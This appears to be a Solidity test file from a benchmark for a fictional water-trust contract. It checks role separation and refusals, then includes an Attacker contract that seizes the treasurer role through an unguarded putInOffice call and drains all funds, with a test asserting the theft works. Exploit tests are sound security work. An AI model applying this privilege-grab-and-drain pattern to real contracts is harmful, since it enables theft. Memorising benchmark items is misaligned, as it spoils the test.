pragma solidity 0.4.26;

import "./HollowayWellTrust.sol";

// assay-canary-3778f71a-22b5-40be-958a-d2ec66b8618d

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert() external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    HollowayWellTrust internal trust;
    Attacker internal stranger;
    address internal constant TILDA = address(0x7111DA);
    address internal constant RHYS = address(0x5245AD);
    address internal constant FARM = address(0xFA53);
    address internal constant MILL = address(0x311157);

    function setUp() public {
        trust = new HollowayWellTrust();
        trust.appointTreasurer(TILDA);
        trust.appointReader(RHYS);
        trust.register(FARM, 1000);
        trust.register(MILL, 0);
        vm.prank(TILDA);
        trust.setPrice(1 finney);
        vm.deal(FARM, 20 ether);
        vm.deal(MILL, 10 ether);
        vm.prank(FARM);
        trust.payIn.value(20 ether)();
        vm.prank(MILL);
        trust.payIn.value(10 ether)();
        vm.prank(RHYS);
        trust.recordReading(FARM, 13000);
        stranger = new Attacker(trust);
    }

    function test_Regular() public {
        require(trust.steward() == address(this) && trust.treasurer() == TILDA, "roles");
        require(trust.funds() == 12 ether, "twelve thousand litres");

        // the register is the steward's, the money the treasurer's
        vm.prank(TILDA);
        require(!address(trust).call(abi.encodeWithSelector(trust.register.selector, TILDA, uint64(0))), "register");
        require(!address(trust).call(abi.encodeWithSelector(trust.setPrice.selector, 1)), "price");
        vm.prank(MILL);
        require(!address(trust).call(abi.encodeWithSelector(trust.appointTreasurer.selector, MILL)), "treasurer");

        vm.prank(TILDA);
        trust.payRepair(address(0x9A50), 5 ether, "new pump");
        require(address(0x9A50).balance == 5 ether && trust.funds() == 7 ether, "repair");

        vm.prank(RHYS);
        trust.recordReading(MILL, 99999);
        require(trust.funds() == 17 ether, "not beyond the credit");
        vm.prank(FARM);
        trust.leave();
        require(FARM.balance == 8 ether, "credit returned");

        trust.nameSteward(RHYS);
        vm.prank(RHYS);
        trust.acceptStewardship();
        require(trust.steward() == RHYS, "handed over");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// Each office does its own work.
    function test_RefusesStrangers() public {
        refuses(MILL);
        trust.nameSteward(MILL);
        trust.nameSteward(RHYS);
        refuses(MILL);
        trust.acceptStewardship();
        refuses(MILL);
        trust.appointReader(MILL);
        refuses(MILL);
        trust.recordReading(FARM, 14000);
        refuses(MILL);
        trust.payRepair(MILL, 1, "");
    }

    /// The offices stay apart, and are held by somebody.
    function test_RefusesOffices() public {
        vm.expectRevert();
        trust.appointReader(TILDA);
        vm.expectRevert();
        trust.appointTreasurer(address(0));
        vm.expectRevert();
        trust.appointTreasurer(RHYS);
    }

    /// Households once, prices within bounds, readings that rise, funds that are there.
    function test_RefusesNumbers() public {
        vm.expectRevert();
        trust.register(FARM, 5);
        refuses(TILDA);
        trust.setPrice(0);
        refuses(TILDA);
        trust.setPrice(1 finney + 1);
        vm.deal(this, 1 ether);
        vm.expectRevert();
        trust.payIn.value(1 ether)();
        refuses(RHYS);
        trust.recordReading(address(0xBEE), 5);
        refuses(RHYS);
        trust.recordReading(FARM, 12999);
        refuses(TILDA);
        trust.payRepair(address(0x9A50), 12 ether + 1, "");
    }

    function exploit() public {
        stranger.run();
    }

    function test_Exploit() public {
        exploit();
        require(trust.treasurer() == address(stranger), "treasurer unchanged");
        require(address(stranger).balance == 12 ether && trust.funds() == 0, "funds unchanged");
    }

    function target() public view returns (address) {
        return address(trust);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}

interface Office {
    function putInOffice(address _treasurer) external;
}

contract Attacker {
    HollowayWellTrust internal trust;

    constructor(HollowayWellTrust _trust) public {
        trust = _trust;
    }

    function() external payable {}

    function run() external {
        Office(trust).putInOffice(this);
        trust.payRepair(address(this), trust.funds(), "");
    }
}
